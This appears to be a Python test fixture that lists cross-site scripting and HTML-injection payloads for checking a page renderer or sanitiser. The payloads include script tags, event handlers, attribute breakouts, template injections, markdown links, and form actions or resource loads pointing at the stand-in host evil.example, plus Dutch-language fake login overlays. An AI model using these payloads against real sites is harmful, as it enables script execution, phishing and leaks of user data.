"""What someone might put in a transcript, a name, a title or a question to make the page do something: script, requests, links, forms, overlays."""

from __future__ import annotations

_ELEMENTS = """
<script>window.pwned=1</script>
<ScRiPt >window.pwned=1</sCrIpT>
<img src=x onerror=window.pwned=1>
<img src=https://evil.example/a.png>
<img srcset="https://evil.example/b.png 1x">
<svg onload=window.pwned=1>
<svg><script>window.pwned=1</script></svg>
<svg><use href="https://evil.example/x.svg#a"></use></svg>
<svg><image href="https://evil.example/c.png"/></svg>
<math><mi xlink:href="javascript:window.pwned=1">x</mi></math>
<iframe src="https://evil.example/"></iframe>
<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>
<object data="https://evil.example/o"></object>
<embed src="https://evil.example/e">
<link rel=stylesheet href=https://evil.example/s.css>
<link rel=prefetch href=https://evil.example/p>
<style>@import url(https://evil.example/i.css);</style>
<style>body{display:none}</style>
<base href="https://evil.example/">
<meta http-equiv=refresh content="0;url=https://evil.example/">
<form action="https://evil.example/"><input name=q><button>Log in</button></form>
<button formaction=https://evil.example/ type=submit>Verder</button>
<input autofocus onfocus=window.pwned=1>
<select onfocus=window.pwned=1 autofocus></select>
<textarea onfocus=window.pwned=1 autofocus></textarea>
<keygen autofocus onfocus=window.pwned=1>
<video src=https://evil.example/v.mp4 autoplay></video>
<video poster=https://evil.example/p.png></video>
<audio src=https://evil.example/a.mp3 autoplay></audio>
<video><source onerror=window.pwned=1></video>
<body onload=window.pwned=1>
<details open ontoggle=window.pwned=1><summary>x</summary></details>
<marquee onstart=window.pwned=1>x</marquee>
<a href="javascript:window.pwned=1">klik</a>
<a href=https://evil.example/>Rijksoverheid</a>
<div style="position:fixed;inset:0;background:red;z-index:99999">Log opnieuw in</div>
<div style="background:url(https://evil.example/u.png)">x</div>
<div onmouseover=window.pwned=1 style="position:fixed;inset:0">x</div>
<table background=https://evil.example/t.png><tr><td>x</table>
<template><script>window.pwned=1</script></template>
<noscript><p title="</noscript><img src=x onerror=window.pwned=1>">
<title><img src=x onerror=window.pwned=1></title>
<textarea></textarea><script>window.pwned=1</script>
<!--><script>window.pwned=1</script>-->
<![CDATA[<script>window.pwned=1</script>]]>
<?xml version="1.0"?><x xmlns="http://www.w3.org/1999/xhtml"><script>window.pwned=1</script></x>
<dialog open>Voer uw wachtwoord in</dialog>
<div popover id=pop>x</div><button popovertarget=pop>x</button>
<script src=https://evil.example/x.js></script>
<img src=x:x onerror&#61;window.pwned&#61;1>
"""
_BREAKOUTS = """
"><img src=x onerror=window.pwned=1>
'><img src=x onerror=window.pwned=1>
` onmouseover=window.pwned=1 x=`
" autofocus onfocus=window.pwned=1 x="
' autofocus onfocus=window.pwned=1 x='
</p></div></section><script>window.pwned=1</script>
</script><script>window.pwned=1</script>
</style><script>window.pwned=1</script>
</textarea><script>window.pwned=1</script>
</title><script>window.pwned=1</script>
&lt;script&gt;window.pwned=1&lt;/script&gt;
&#60;img src=x onerror=window.pwned=1&#62;
\\"><script>window.pwned=1</script>
${window.pwned=1}
{{constructor.constructor('window.pwned=1')()}}
{{7*7}}{% raw %}<script>window.pwned=1</script>{% endraw %}
javascript:window.pwned=1//
data:text/html,<script>window.pwned=1</script>
![x](https://evil.example/md.png)
[klik](javascript:window.pwned=1)
[Rijksoverheid](https://evil.example/)
<https://evil.example/auto>
https://evil.example/bare www.evil.example
```html <script>window.pwned=1</script> ```
$$\\href{javascript:window.pwned=1}{x}$$
"""
PAYLOADS: tuple[str, ...] = (
    *(line for line in (_ELEMENTS + _BREAKOUTS).splitlines() if line),
    "\u202e<script>window.pwned=1</script>\u202c",
    "<img src=x\tonerror\n=window.pwned=1>",
    "<scr\u0000ipt>window.pwned=1</scr\u0000ipt>",
    "\ufeff<svg/onload=window.pwned=1>",
    "＜script＞window.pwned=1＜/script＞",
    "a\u0300" * 40 + "<b onclick=window.pwned=1>",
    "<x" + " onfocus=window.pwned=1 autofocus" * 3 + " contenteditable>",
)
